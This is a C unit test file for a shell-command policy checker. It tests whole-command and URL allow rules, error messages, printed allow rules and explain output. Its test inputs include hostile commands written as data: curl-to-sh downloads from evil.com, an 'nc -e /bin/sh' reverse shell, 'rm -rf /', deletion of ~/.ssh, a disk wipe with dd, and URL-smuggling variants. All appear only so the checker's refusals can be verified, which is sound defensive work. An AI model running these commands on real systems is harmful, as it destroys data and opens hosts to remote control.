/*
 * test-policy-allow.c - allow rules precise enough to use: 'command'
 * (a glob on the whole command, blanks collapsed), 'url' (a remote-code
 * source prefix), their errors with FILE:LINE:COL, the allow rule a
 * refusal prints (pasted back, it allows exactly that command), and
 * vg_policy_explain.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "runner/policy/policy.h"
#include "runner/policy/rules.h"

static const struct vg_policy_ctx ctx = {
	.cwd = "/home/u/proj", .home = "/home/u",
};

/* Opens site text; fails the test on any problem. */
static struct vg_policy *
site(const char *text)
{
	struct vg_diag d = VG_DIAG_INIT;
	struct vg_policy *p = NULL;
	struct vg_err e;
	size_t k;

	vg_err_init(&e);
	if (vg_policy_open_mem(NULL, "site.yaml", text, strlen(text), &p, &d,
	    &e) != 0) {
		for (k = 0; k < d.lines.n; k++)
			printf("%s\n", d.lines.v[k]);
		fail_msg("site text refused: %s", e.msg);
	}
	vg_diag_release(&d);
	return p;
}

/* Asserts that site text is refused with exactly the one line want. */
static void
site_error(const char *text, const char *want)
{
	struct vg_diag d = VG_DIAG_INIT;
	struct vg_policy *p = NULL;
	struct vg_err e;
	size_t k;

	vg_err_init(&e);
	assert_int_equal(vg_policy_open_mem(NULL, "site.yaml", text,
	    strlen(text), &p, &d, &e), VG_EINVAL);
	assert_null(p);
	if (d.lines.n != 1 || strcmp(d.lines.v[0], want) != 0) {
		for (k = 0; k < d.lines.n; k++)
			printf("got: %s\n", d.lines.v[k]);
		fail_msg("want: %s", want);
	}
	vg_diag_release(&d);
}

/* True when p allows command. */
static int
allows(struct vg_policy *p, const char *command)
{
	struct vg_verdict v;

	assert_int_equal(vg_policy_eval(p, command, &ctx, &v), 0);
	return v.allowed;
}

/* Normalises s as whole-command rules do. */
static void
norm_is(const char *s, const char *want)
{
	char out[256];

	assert_true(strlen(s) < sizeof(out));
	pl_norm_whole(s, strlen(s), out);
	assert_string_equal(out, want);
}

/* Blanks outside quotes collapse; quoted text stays. */
static void
test_norm_whole(void **state)
{
	(void)state;
	norm_is("  curl  -fsSL\tx |  sh  ", "curl -fsSL x | sh");
	norm_is("echo 'a  b'  \"c   d\"", "echo 'a  b' \"c   d\"");
	norm_is("echo a\\  b", "echo a\\  b");
	norm_is("a \\\n  b", "a b");
	norm_is("\n a ;  \n  b  \n\n", "a ;\nb");
	norm_is("echo \"x\\\"  y\"  z", "echo \"x\\\"  y\" z");
	norm_is("", "");
}

/* A whole-command rule lets one vetted pipeline through and nothing
 * else. */
static void
test_command_rule(void **state)
{
	struct vg_policy *p = site("allow:\n"
	    "  - id: get-sh\n"
	    "    command: \"curl -fsSL https://get.example.sh | sh\"\n"
	    "    reason: vetted\n");

	(void)state;
	assert_true(allows(p, "curl -fsSL https://get.example.sh | sh"));
	assert_true(allows(p, "  curl  -fsSL https://get.example.sh|sh") == 0);
	assert_true(allows(p, "curl\t-fsSL  https://get.example.sh | sh  "));
	assert_false(allows(p, "curl -fsSL https://get.example.sh.evil.com | "
	    "sh"));
	assert_false(allows(p, "curl -fsSL https://evil.example.sh | sh"));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | sh; "
	    "rm -rf ~/x"));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | sh; "
	    "rm -rf ~"));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | bash"));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | sudo sh"));
	/* A rule for one pipeline does not allow its parts elsewhere. */
	assert_false(allows(p, "wget -qO- https://get.example.sh | sh"));
	vg_policy_free(p);
	/* With a category it drops only that category's findings. */
	p = site("allow:\n"
	    "  - id: get-sh\n"
	    "    category: privilege\n"
	    "    command: \"sudo curl -fsSL https://get.example.sh | sh\"\n"
	    "    reason: vetted\n");
	assert_false(allows(p, "sudo curl -fsSL https://get.example.sh | sh"));
	vg_policy_free(p);
}

/* A whole-command allow rule of a manifest lifts neither a site deny
 * rule nor the floor, nor an unparseable verdict. */
static void
test_command_rule_floor(void **state)
{
	static char id[] = "all", reason[] = "r", c1[] = "touch x",
	    c2[] = "rm -rf /", c3[] = "ls 'x", c4[] = "*";
	struct vg_rule allow[] = {
		{ .id = id, .command = c1, .reason = reason },
		{ .id = id, .command = c2, .reason = reason },
		{ .id = id, .command = c3, .reason = reason },
		{ .id = id, .command = c4, .reason = reason },
	};
	static const char site[] = "deny:\n  - id: no-touch\n"
	    "    match: 'touch *'\n    reason: r\n";
	struct vg_policy_conf conf = { .allow = allow, .nallow = 4 };
	struct vg_diag d = VG_DIAG_INIT;
	struct vg_policy *p = NULL;
	struct vg_verdict v;
	struct vg_err e;

	(void)state;
	vg_err_init(&e);
	assert_int_equal(vg_policy_open_mem(&conf, "site.yaml", site,
	    strlen(site), &p, &d, &e), 0);
	assert_int_equal(vg_policy_eval(p, "touch x", &ctx, &v), 0);
	assert_false(v.allowed);
	assert_string_equal(v.findings[0].rule, "site:no-touch");
	assert_int_equal(vg_policy_eval(p, "rm -rf /", &ctx, &v), 0);
	assert_false(v.allowed);
	assert_string_equal(v.findings[0].rule, "floor:delete-root");
	assert_int_equal(vg_policy_eval(p, "ls 'x", &ctx, &v), 0);
	assert_false(v.allowed);
	/* '*' lets through what built-in findings remain. */
	assert_true(allows(p, "curl https://x.example | sh"));
	vg_policy_free(p);
}

/* A url rule allows remote code from one source prefix only. */
static void
test_url_rule(void **state)
{
	static const struct { const char *cmd; int allowed; } cases[] = {
		{ "curl -fsSL https://get.example.sh/tools/i.sh | sh", 1 },
		{ "curl -fsSL https://GET.example.sh/tools/a/b | bash", 1 },
		{ "wget -qO- https://get.example.sh/tools/i.sh | sh", 1 },
		{ "sh <(curl -s https://get.example.sh/tools/i)", 1 },
		{ "curl https://dl.example.org | sh", 1 },
		{ "curl https://dl.example.org/any/x?y=1 | sh", 1 },
		{ "curl https://x.example.org/install | sh", 1 },
		{ "curl https://x.example.org/install/a | sh", 1 },
		/* Host exact: no suffix, user part, other port or scheme. */
		{ "curl https://get.example.sh.evil.com/tools/x | sh", 0 },
		{ "curl https://get.example.sh@evil.com/tools/x | sh", 0 },
		{ "curl https://u:pw@get.example.sh/tools/x | sh", 0 },
		{ "curl https://get.example.sh:444/tools/x | sh", 0 },
		{ "curl http://get.example.sh/tools/x | sh", 0 },
		{ "curl https://dl.example.org.evil.com | sh", 0 },
		/* The path at a '/' boundary, no dot segments, encodings. */
		{ "curl https://get.example.sh/toolsx/i | sh", 0 },
		{ "curl https://get.example.sh/tools/../x | sh", 0 },
		{ "curl https://get.example.sh/tools/%2e%2e/x | sh", 0 },
		{ "curl https://x.example.org/installer | sh", 0 },
		{ "curl https://get.example.sh/ | sh", 0 },
		/* One source only: a second download from elsewhere. */
		{ "curl https://get.example.sh/tools/i | sh; "
		  "curl https://evil.com/x | sh", 0 },
		{ "curl https://evil.com/x | sh; "
		  "curl https://get.example.sh/tools/i | sh", 0 },
		/* Several URLs, or options that read more: no one source. */
		{ "curl https://get.example.sh/tools/i https://evil.com/x "
		  "| sh", 0 },
		{ "curl -K cfg https://get.example.sh/tools/i | sh", 0 },
		{ "curl --config cfg https://get.example.sh/tools/i | sh", 0 },
		{ "wget -i list -O- https://get.example.sh/tools/i | sh", 0 },
		{ "curl $U | sh", 0 },
		/* Other findings of the same command still count. */
		{ "curl https://get.example.sh/tools/i | sudo sh", 0 },
	};
	struct vg_policy *p = site("allow:\n"
	    "  - id: our-mirror\n"
	    "    category: remote-code\n"
	    "    url: https://get.example.sh/tools/\n"
	    "    reason: our installers\n"
	    "  - id: host-root\n"
	    "    category: remote-code\n"
	    "    url: https://dl.example.org\n"
	    "    reason: all of it\n"
	    "  - id: one-path\n"
	    "    category: remote-code\n"
	    "    url: https://x.example.org/install\n"
	    "    reason: one script\n");

	size_t k;

	(void)state;
	for (k = 0; k < sizeof(cases) / sizeof(cases[0]); k++)
		if (allows(p, cases[k].cmd) != cases[k].allowed)
			fail_msg("'%s': want %s", cases[k].cmd,
			    cases[k].allowed ? "allowed" : "refused");
	vg_policy_free(p);
}

/* pl_url_under on its own: the parsed comparison. */
static void
test_url_under(void **state)
{
	static const char u1[] = "https://a.example/p";

	(void)state;
	assert_true(pl_url_under("https://a.example/", u1, strlen(u1)));
	assert_true(pl_url_under("https://a.example/p", u1, strlen(u1)));
	assert_true(pl_url_under("HTTPS://A.EXAMPLE", u1, strlen(u1)));
	assert_false(pl_url_under("https://a.example/p/", u1, strlen(u1)));
	assert_false(pl_url_under("https://a.example/q", u1, strlen(u1)));
	assert_false(pl_url_under("https://a.example/p?x", u1, strlen(u1)));
	assert_false(pl_url_under("file:///etc", "file:///etc/x", 13));
	assert_false(pl_url_under("https://a.example/", "https://a.example\\@b/",
	    21));
	assert_false(pl_url_under("https://a.example/", "https://a.example/a b",
	    21));
	assert_false(pl_url_under("https://a.example/", "https://a.example/.",
	    19));
}

/* Bad new fields: FILE:LINE:COL and what is valid. */
static void
test_field_errors(void **state)
{
	(void)state;
	site_error("allow:\n  - id: x\n    url: get.example.sh\n"
	    "    category: remote-code\n    reason: r\n",
	    "site.yaml:3:10: rule 'x': url 'get.example.sh' is not a URL "
	    "prefix (valid: http://, https:// or ftp://, a host with an "
	    "optional port, an optional path; no user part, query, "
	    "fragment, '.' or '..' segments)");
	site_error("allow:\n  - id: x\n    url: https://u@get.example.sh/\n"
	    "    category: remote-code\n    reason: r\n",
	    "site.yaml:3:10: rule 'x': url 'https://u@get.example.sh/' is not "
	    "a URL prefix (valid: http://, https:// or ftp://, a host with "
	    "an optional port, an optional path; no user part, query, "
	    "fragment, '.' or '..' segments)");
	site_error("allow:\n  - id: x\n    url: https://a.example/?q=1\n"
	    "    category: remote-code\n    reason: r\n",
	    "site.yaml:3:10: rule 'x': url 'https://a.example/?q=1' is not a "
	    "URL prefix (valid: http://, https:// or ftp://, a host with an "
	    "optional port, an optional path; no user part, query, "
	    "fragment, '.' or '..' segments)");
	site_error("allow:\n  - id: x\n    url: https://a.example/\n"
	    "    reason: r\n",
	    "site.yaml:3:10: rule 'x': 'url' needs 'category: remote-code' "
	    "(only remote-code findings carry a source URL)");
	site_error("allow:\n  - id: x\n    url: https://a.example/\n"
	    "    category: destructive\n    reason: r\n",
	    "site.yaml:3:10: rule 'x': 'url' needs 'category: remote-code' "
	    "(only remote-code findings carry a source URL)");
	site_error("allow:\n  - id: x\n    command: ''\n    reason: r\n",
	    "site.yaml:3:14: rule 'x': 'command' is empty (valid: a glob on "
	    "the whole command, e.g. \"curl -fsSL https://get.example.sh | "
	    "sh\")");
	site_error("deny:\n  - id: x\n    command: 'ls'\n    reason: r\n",
	    "site.yaml:3:14: rule 'x': 'command' is only valid in allow "
	    "rules (a deny rule takes id, match, category, reason)");
	site_error("deny:\n  - id: x\n    floor: fork-bomb\n    match: x\n"
	    "    reason: r\n",
	    "site.yaml:3:5: unknown rule field 'floor' (valid: id, match, "
	    "category, reason, command, url)");
	site_error("allow:\n  - id: x\n    reason: r\n",
	    "site.yaml:2:5: rule 'x' needs 'match' (a glob on each simple "
	    "command), 'command' (a glob on the whole command) or "
	    "'category'");
}

/* Manifest rules take the same fields; a deny rule cannot. */
static void
test_manifest_fields(void **state)
{
	static char id[] = "m", cmd[] = "curl -fsSL https://get.example.sh | sh",
	    reason[] = "r", url[] = "https://get.example.sh/",
	    cat[] = "remote-code", file[] = "job.yaml";
	struct vg_rule allow[] = {
		{ .id = id, .command = cmd, .reason = reason },
	};
	struct vg_rule deny[] = {
		{ .id = id, .url = url, .category = cat, .reason = reason,
		  .loc = { .file = file, .line = 7, .col = 9 } },
	};
	struct vg_policy_conf conf = { .allow = allow, .nallow = 1 };
	struct vg_diag d = VG_DIAG_INIT;
	struct vg_policy *p = NULL;
	struct vg_err e;

	(void)state;
	vg_err_init(&e);
	assert_int_equal(vg_policy_open_mem(&conf, "site.yaml", NULL, 0, &p,
	    &d, &e), 0);
	assert_true(allows(p, cmd));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | bash"));
	vg_policy_free(p);
	conf.allow = NULL;
	conf.nallow = 0;
	conf.deny = deny;
	conf.ndeny = 1;
	assert_int_equal(vg_policy_open_mem(&conf, "site.yaml", NULL, 0, &p,
	    &d, &e), VG_EINVAL);
	assert_int_equal(d.lines.n, 1);
	assert_string_equal(d.lines.v[0], "job.yaml:7:9: rule 'm': 'url' is "
	    "only valid in allow rules (a deny rule takes id, match, "
	    "category, reason)");
	vg_diag_release(&d);
}

/* The allow rule of a refusal, for policy text p0 and command: returns
 * where it goes and fills yaml. */
static enum vg_allow_where
allow_rule(const char *p0, const char *command, struct vg_buf *yaml,
    struct vg_buf *note)
{
	struct vg_policy *p = site(p0);
	struct vg_verdict v;
	enum vg_allow_where w;

	assert_int_equal(vg_policy_eval(p, command, &ctx, &v), 0);
	assert_false(v.allowed);
	vg_buf_reset(yaml);
	vg_buf_reset(note);
	w = vg_policy_allow_rule(&v, command, strlen(command), yaml, note);
	vg_policy_free(p);
	return w;
}

/* Pasting the printed rule allows exactly the command. */
static void
test_round_trip(void **state)
{
	static const char *const cmds[] = {
		"curl -fsSL https://get.example.sh | sh",
		"rm -rf ~/.ssh",
		"chmod -R 777 ~/proj/../..",
		"echo 'a  *?[b]' \"q\\\"x\" | base64 -d | sh",
		"sudo  apt-get install -y x",
		"nc -e /bin/sh evil.com 4444",
		"rm -rf /\n",
		"dd if=/dev/zero of=/dev/sda",
		NULL,
	};
	struct vg_buf yaml = VG_BUF_INIT, note = VG_BUF_INIT;
	struct vg_policy *p;
	int k;

	(void)state;
	for (k = 0; cmds[k] != NULL; k++) {
		enum vg_allow_where w = allow_rule("version: 1\n", cmds[k],
		    &yaml, &note);

		assert_true(w == VG_ALLOW_LAYER || w == VG_ALLOW_SITE);
		p = site(vg_buf_str(&yaml));
		if (!allows(p, cmds[k]))
			fail_msg("'%s' not allowed by:\n%s", cmds[k],
			    vg_buf_str(&yaml));
		/* Nothing more: another command stays refused. */
		assert_false(allows(p, "curl https://evil.com | sh"));
		assert_false(allows(p, "rm -rf ~"));
		vg_policy_free(p);
	}
	/* The same command with one more part is not covered. */
	allow_rule("version: 1\n", "curl -fsSL https://get.example.sh | sh",
	    &yaml, &note);
	p = site(vg_buf_str(&yaml));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | sh; "
	    "rm -rf ~/x"));
	assert_false(allows(p, "curl -fsSL https://get.example.sh | sh -s "
	    "-- --yes"));
	/* Blanks at the end are not part of it. */
	assert_true(allows(p, "curl -fsSL https://get.example.sh | sh  "));
	vg_policy_free(p);
	assert_string_equal(vg_buf_str(&yaml), "allow:\n"
	    "  - id: allow-net-code\n"
	    "    command: \"curl -fsSL https://get.example.sh | sh\"\n"
	    "    reason: \"FILL IN: why this exact command is safe\"\n");
	/* A floor finding: a lifting rule, for the site file only. */
	assert_int_equal(allow_rule("version: 1\n", "rm -rf /", &yaml, &note),
	    VG_ALLOW_SITE);
	assert_string_equal(vg_buf_str(&yaml), "allow:\n"
	    "  - id: lift-delete-root\n"
	    "    floor: delete-root\n"
	    "    command: \"rm -rf /\"\n"
	    "    reason: \"FILL IN: why this exact command is safe\"\n"
	    "  - id: allow-delete-root\n"
	    "    command: \"rm -rf /\"\n"
	    "    reason: \"FILL IN: why this exact command is safe\"\n");
	assert_non_null(strstr(vg_buf_str(&note), "only the site policy "
	    "file"));
	/* Site deny rules, a layer's deny rules, unparseable: none. */
	assert_int_equal(allow_rule("deny:\n  - {id: nd, match: 'docker *', "
	    "reason: r}\n", "docker ps", &yaml, &note), VG_ALLOW_NONE);
	assert_int_equal(yaml.len, 0);
	assert_string_equal(vg_buf_str(&note), "site:nd is a deny rule of "
	    "the site policy file: no policy file or manifest can allow it; "
	    "ask the site's operators");
	assert_int_equal(allow_rule("version: 1\n", "ls 'x", &yaml, &note),
	    VG_ALLOW_NONE);
	assert_string_equal(vg_buf_str(&note), "no rule can allow a command "
	    "vigil cannot read (builtin:parse): rewrite it so that it "
	    "parses");
	vg_buf_release(&yaml);
	vg_buf_release(&note);
}

/* A layer's deny rule is named as such. */
static void
test_layer_deny(void **state)
{
	static char id[] = "no-push", match[] = "git push*", reason[] = "r";
	struct vg_rule deny[] = { { .id = id, .match = match,
	    .reason = reason } };
	struct vg_policy_conf conf = { .deny = deny, .ndeny = 1 };
	struct vg_buf yaml = VG_BUF_INIT, note = VG_BUF_INIT;
	struct vg_diag d = VG_DIAG_INIT;
	struct vg_policy *p = NULL;
	struct vg_verdict v;
	struct vg_err e;

	(void)state;
	vg_err_init(&e);
	assert_int_equal(vg_policy_open_mem(&conf, "site.yaml", NULL, 0, &p,
	    &d, &e), 0);
	assert_int_equal(vg_policy_eval(p, "git push", &ctx, &v), 0);
	assert_int_equal(vg_policy_allow_rule(&v, "git push", 8, &yaml,
	    &note), VG_ALLOW_NONE);
	assert_string_equal(vg_buf_str(&note), "'no-push' is a deny rule of "
	    "the manifest or a policy file: allow rules do not lift deny "
	    "rules; narrow or remove it there");
	vg_policy_free(p);
	vg_buf_release(&yaml);
	vg_buf_release(&note);
}

/* explain: structure, simple commands, findings and their deciders. */
static void
test_explain(void **state)
{
	struct vg_policy *p = site("allow:\n"
	    "  - id: mirror\n"
	    "    category: remote-code\n"
	    "    url: https://get.example.sh/\n"
	    "    reason: r\n"
	    "deny:\n"
	    "  - id: no-dock\n"
	    "    match: 'docker *'\n"
	    "    reason: r\n");
	static const char cmd[] = "curl https://get.example.sh/i | sh && "
	    "sudo bash -c 'rm -rf /'";
	struct vg_explain x;
	size_t i;

	(void)state;
	assert_int_equal(vg_policy_explain(p, cmd, strlen(cmd), &ctx, &x), 0);
	assert_false(x.v.allowed);
	assert_string_equal(x.whole, cmd);
	assert_true(x.nnodes >= 4);
	assert_string_equal(x.nodes[0].kind, "list");
	assert_string_equal(x.nodes[1].kind, "pipeline");
	assert_string_equal(x.nodes[1].op, "&&");
	assert_int_equal(x.nodes[1].len, 34);
	assert_string_equal(x.nodes[2].kind, "simple");
	/* Unwrapped and nested commands. */
	assert_string_equal(x.cmds[0].norm, "curl https://get.example.sh/i");
	assert_int_equal(x.cmds[0].nested, 0);
	for (i = 0; i < x.ncmds && strcmp(x.cmds[i].norm, "rm -rf /"); i++)
		;
	assert_true(i < x.ncmds);
	assert_int_equal(x.cmds[i].nested, 1);
	assert_true(x.nfinds >= 3);
	for (i = 0; i < x.nfinds; i++) {
		const struct vg_explain_find *f = &x.finds[i];

		if (strcmp(f->rule, "builtin:net-code") == 0) {
			assert_string_equal(f->decision, "allowed");
			assert_string_equal(f->by, "site:mirror");
			assert_string_equal(f->url, "https://get.example.sh/i");
			assert_int_equal(f->off, 32);
		} else if (f->floor != NULL) {
			assert_string_equal(f->decision, "floor");
			assert_string_equal(f->by, "floor:delete-root");
		} else {
			assert_string_equal(f->decision, "flagged");
			assert_null(f->by);
		}
	}
	vg_explain_release(&x);
	vg_explain_release(NULL);
	/* Unparseable: no structure, one finding. */
	assert_int_equal(vg_policy_explain(p, "ls 'x", 5, &ctx, &x), 0);
	assert_int_equal(x.nnodes, 0);
	assert_int_equal(x.nfinds, 1);
	assert_string_equal(x.finds[0].category, "unparseable");
	vg_explain_release(&x);
	assert_int_equal(vg_policy_explain(p, "ls", 2, &ctx, NULL), VG_EINVAL);
	vg_policy_free(p);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_norm_whole),
		cmocka_unit_test(test_command_rule),
		cmocka_unit_test(test_command_rule_floor),
		cmocka_unit_test(test_url_rule),
		cmocka_unit_test(test_url_under),
		cmocka_unit_test(test_field_errors),
		cmocka_unit_test(test_manifest_fields),
		cmocka_unit_test(test_round_trip),
		cmocka_unit_test(test_layer_deny),
		cmocka_unit_test(test_explain),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
